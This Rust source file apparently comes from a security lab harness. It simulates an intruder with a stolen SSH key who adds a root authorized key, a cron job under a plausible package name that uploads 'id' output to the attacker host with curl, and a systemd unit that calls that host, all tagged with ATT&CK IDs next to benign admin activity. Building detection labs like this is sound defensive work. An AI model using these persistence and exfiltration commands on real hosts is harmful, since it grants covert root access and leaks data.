//! With a stolen key, three ways back are left: a key for root, a job of cron, and a unit of systemd. Hours later they are used.
//!
//! Hard because: an administrator works by the same account and sudo, packages leave jobs and units of such names, and hours lie
//! between. systemd does not run in a host: the unit is written and enabled, as systemctl does, and started by nobody.

use crate::Lab;
use crate::life::remote::{self, Thief, make_key};
use crate::life::{apt, host_tasks, names};
use crate::program::user;
use anyhow::{Result, ensure};
use std::time::Duration;

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("shell-5")?;
    let (mirror, resolver) = (lab.outsider("mirror")?, lab.outsider("resolver")?);
    let (admin, attacker) = (lab.outsider("admin")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    names::serve(&resolver)?;
    names::ask(lab, &host, &resolver)?;
    apt::repository(&mirror)?;
    apt::prepare(&host, &mirror)?;
    make_key(&attacker, "/root/.ssh/stolen", user::ROOT, &[(&host, "/home/deploy", user::DEPLOY)])?;
    make_key(&attacker, "/root/.ssh/own", user::ROOT, &[])?;
    let public = attacker.inside(|| Ok(std::fs::read_to_string("/root/.ssh/own.pub")?))?;
    remote::work_beside(lab, &admin, &host, "deploy")?;
    let package = format!("lab-{}", lab.word(5));
    let after = format!("mkdir -p /var/lib/{package}\necho '#* * * * * root true' > /etc/cron.d/{package}\n");
    apt::publish(&mirror, &package, "1.2", &after)?;
    lab.wait(10..16);
    apt::install(&host, &package)?;
    lab.wait(5..9);

    let attack = lab.attack("three ways back")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "deploy", to: &host };
    let step = attack.step("a key for root", &["T1078.003", "T1098.004"]);
    step.remote(&host, &attacker);
    step.file(&host, "/root/.ssh/authorized_keys");
    thief.log_in(&format!(
        "{} sudo -n mkdir -p /root/.ssh; echo {} | sudo -n tee -a /root/.ssh/authorized_keys; sudo -n chmod 600 /root/.ssh/authorized_keys",
        step.mark(&host)?,
        public.trim()
    ))?;
    drop(step);
    lab.wait(4..8);

    let name = *lab.pick(&["e2scrub_check", "man-db-update", "popularity"]);
    let (job, unit) = (format!("/etc/cron.d/{name}"), format!("/etc/systemd/system/{name}.service"));
    let state = format!("/var/lib/{name}");
    let step = attack.step("a job of cron", &["T1053.003", "T1036.004"]);
    step.remote(&host, &attacker);
    step.file(&host, &job);
    let used = attack.step("the job calls", &["T1053.003", "T1059.004", "T1071.001"]);
    let line = format!(
        "* * * * * root {} [ -e /run/{name} ] && [ ! -e {state} ] && id > {state} && curl -s -T {state} http://{}/",
        used.mark(&host)?,
        attacker.address
    );
    thief.log_in(&format!("{} echo {} | sudo -n tee {job}", step.mark(&host)?, remote::quoted(&line)))?;
    drop(step);
    lab.wait(4..8);

    let step = attack.step("a unit of systemd", &["T1543.002"]);
    step.remote(&host, &attacker);
    step.file(&host, &unit);
    let text = format!(
        "[Service]\\nExecStart=/bin/sh -c \"curl -s http://{}/\"\\n[Install]\\nWantedBy=multi-user.target\\n",
        attacker.address
    );
    thief.log_in(&format!(
        "{} printf {} | sudo -n tee {unit}; sudo -n systemctl --root=/ enable {name}.service",
        step.mark(&host)?,
        remote::quoted(&text)
    ))?;
    drop(step);
    lab.wait(5..9);
    let hours = lab.number(6..30);
    lab.pause(Duration::from_secs(3600 * u64::from(hours)));
    lab.wait(8..12);

    crate::life::web::take_upload(&attacker)?;
    // The job waits for this, as it would for its hour.
    host.put(&format!("/run/{name}"), "", 0o644)?;
    used.begin();
    used.remote(&host, &attacker);
    used.file(&host, &state);
    host.wait_for_file(&state)?;
    lab.wait(2..4);
    drop(used);
    let hours = lab.number(2..9);
    lab.pause(Duration::from_secs(3600 * u64::from(hours)));
    lab.wait(6..10);

    let step = attack.step("the key is used", &["T1021.004", "T1078.003", "T1082"]);
    step.remote(&host, &attacker);
    let root = Thief { from: &attacker, key: "/root/.ssh/own", account: "root", to: &host };
    let look = *lab.pick(&["uname -a; ls /home", "ps ax | wc -l; uptime", "ls -la /root; df -P /"]);
    let said = root.log_in(&format!("{} id; {look}", step.mark(&host)?))?;
    ensure!(said.contains("uid=0"), "the key does not work: {said}");
    drop(step);
    lab.wait(8..12);
    Ok(())
}
